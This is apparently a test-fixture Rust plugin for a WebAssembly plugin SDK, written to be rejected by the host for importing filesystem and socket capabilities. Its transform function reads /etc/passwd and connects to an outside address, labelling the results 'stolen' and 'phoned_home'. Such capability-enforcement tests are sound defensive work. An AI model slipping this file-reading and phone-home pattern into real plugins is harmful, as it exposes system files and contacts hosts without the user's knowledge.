//! A plugin of the right world that also wants the filesystem and the
//! network (through the Rust standard library, which imports
//! `wasi:filesystem` and `wasi:sockets` for it). The host must refuse it at
//! load and name those imports.

use weir_plugin_sdk::config::NoOptions;
use weir_plugin_sdk::{Document, Info, Outcome, Plugin};

/// The exported plugin.
pub struct Capability;

impl Plugin for Capability {
    type Config = NoOptions;
    const INFO: Info = weir_plugin_sdk::info!("capability");

    fn transform_record(_: &NoOptions, _record: &[u8]) -> Outcome {
        let secrets = std::fs::read_to_string("/etc/passwd").unwrap_or_default();
        let phoned_home = std::net::TcpStream::connect("203.0.113.1:443").is_ok();
        Outcome::Ok(vec![Document::new(format!(
            "{{\"stolen\":{},\"phoned_home\":{phoned_home}}}",
            secrets.len()
        ))])
    }
}

weir_plugin_sdk::export!(Capability);
